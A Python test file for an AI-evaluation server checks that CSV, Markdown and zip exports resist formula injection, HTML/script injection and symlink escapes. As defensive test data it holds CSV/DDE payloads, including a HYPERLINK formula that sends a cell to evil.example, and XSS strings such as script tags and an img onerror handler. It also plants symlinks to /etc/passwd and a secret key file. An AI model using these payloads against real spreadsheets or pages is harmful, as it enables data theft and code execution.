"""Exports are safe to open (issue 8, finding 9): a CSV cell cannot become a spreadsheet formula, a Markdown
report cannot carry HTML, links or images from names and texts, and a zip holds only the regular files of the
job directory (a symlink planted there is not followed)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from markdown_it import MarkdownIt

HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def evaluation_with(client, settings):
    """A finished evaluation written straight into the database, with scores named as a user named them."""
    from aieval_server.db import session_scope
    from aieval_server.models import Evaluation, Score

    def make(*, scores: list[tuple[str, str, str, float]], error: str | None = None, log_excerpt: str | None = None,
             name: str = "exports") -> int:
        with session_scope(settings.database_url) as session:
            evaluation = Evaluation(name=name, status="failed" if error else "succeeded", params={"limit": 4},
                                    queue="local", error=error, log_excerpt=log_excerpt)
            session.add(evaluation)
            session.flush()
            session.add_all([Score(evaluation_id=evaluation.id, model_name=m, dataset_name=d, model_abbr="m",
                                   dataset_abbr="d", metric=metric, value=value) for m, d, metric, value in scores])
            return evaluation.id

    return make


def test_csv_text_cells_cannot_become_formulas_and_numbers_stay_numbers(client, evaluation_with):
    evaluation_id = evaluation_with(scores=[(text, "plain set", "accuracy", -1.5) for text in HOSTILE.values()]
                                    + [("plain model", HOSTILE["at"], HOSTILE["minus"], 42.0)])
    response = client.get(f"/api/v1/evaluations/{evaluation_id}/export", params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    # What each score rests on, then its comparability fingerprint and the parts it covers (then speed columns).
    assert rows[0][:17] == ["evaluation_id", "model", "dataset", "metric", "value", "n", "correct", "scorer", "ci_low",
                            "ci_high", "fingerprint", "data", "config", "prompt", "limit", "max_out_len", "opencompass"]
    for row in rows[1:]:
        for cell in row[1:4]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{cell!r} would run as a formula"
        assert row[4] in ("-1.5", "42.0"), "numbers are written as numbers"
    models = {row[1] for row in rows[1:]}
    assert models == {"'" + text for text in HOSTILE.values()} | {"plain model"}, "the text itself is kept"
    assert {row[2] for row in rows[1:]} == {"plain set", "'" + HOSTILE["at"]}


def test_markdown_report_carries_no_html_links_or_images_from_user_text(client, evaluation_with):
    hostile_model = '<img src=x onerror="alert(1)"> ![pixel](http://evil.example/p.png)'
    hostile_set = "set | with pipe <script>alert(2)</script>"
    evaluation_id = evaluation_with(
        name="[click](javascript:alert(3)) <b>bold</b>",
        scores=[(hostile_model, hostile_set, "acc_*emph*_", 50.0), ("second", hostile_set, "acc_*emph*_", 25.0)],
        error="failed: <iframe src=http://evil.example></iframe>",
        log_excerpt="line one\n```\n<script>alert(4)</script>\n```",
    )
    response = client.get(f"/api/v1/evaluations/{evaluation_id}/export", params={"format": "md"})
    assert response.status_code == 200
    rendered = MarkdownIt("commonmark").enable("table").render(response.text)
    for tag in ("<img", "<script", "<iframe", "<b>", "<a ", "<em>", "<strong>"):
        assert tag not in rendered.replace("<strong>failed</strong>", ""), f"{tag} made it into the rendered report"
    # The text is all there, readable, in the right table cells.
    assert "&lt;img src=x onerror=" in rendered and "![pixel](http://evil.example/p.png)" in rendered
    header = rendered.split("<thead>")[1].split("</thead>")[0]
    assert header.count("<th") == 4, "dataset, metric and two models: a pipe in a name opens no column"
    assert "set | with pipe &lt;script&gt;alert(2)&lt;/script&gt;" in rendered
    assert "&lt;script&gt;alert(4)&lt;/script&gt;" in rendered.split("<pre>")[1], "the log stays in its code block"


def test_zip_export_holds_regular_files_only_no_planted_symlink(client, settings, evaluation_with):
    from sqlalchemy import update

    from aieval_server.db import session_scope
    from aieval_server.keyring import encrypt
    from aieval_server.models import Evaluation
    from aieval_server.services.checkpoints import JobCheckpoint
    from aieval_server.services.evaluations import artifacts_prefix, job_dir
    from aieval_server.storage import get_storage

    encrypt(settings, "sk-makes-the-secret-key-file")
    secret = (settings.data_dir / "secret.key").read_bytes()
    evaluation_id = evaluation_with(scores=[("m", "d", "accuracy", 1.0)])
    job = job_dir(settings, evaluation_id)
    (job / "outputs" / "20260101_000000" / "results").mkdir(parents=True)
    (job / "run.log").write_text("a real log line\n")
    (job / "outputs" / "20260101_000000" / "results" / "d.json").write_text('{"accuracy": 1.0}')
    # What a model's code or a hostile file name could leave behind in the job directory:
    (job / "passwd").symlink_to("/etc/passwd")
    (job / "outputs" / "secret.key").symlink_to(settings.data_dir / "secret.key")
    (job / "data_dir").symlink_to(settings.data_dir, target_is_directory=True)

    # The worker stores the job directory as it does at the end of every run, then the API zips what is stored.
    JobCheckpoint(get_storage(settings), artifacts_prefix(evaluation_id), job).sync()
    with session_scope(settings.database_url) as session:
        session.execute(update(Evaluation).where(Evaluation.id == evaluation_id).values(artifacts_stored=True))
    response = client.get(f"/api/v1/evaluations/{evaluation_id}/export", params={"format": "zip"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = sorted(archive.namelist())
        contents = [archive.read(name) for name in names]
    assert names == ["artifacts/outputs/20260101_000000/results/d.json", "artifacts/run.log", "evaluation.json",
                     "report.md", "scores.csv"]
    passwd = open("/etc/passwd", "rb").read()
    assert not any(secret in content or passwd in content for content in contents)
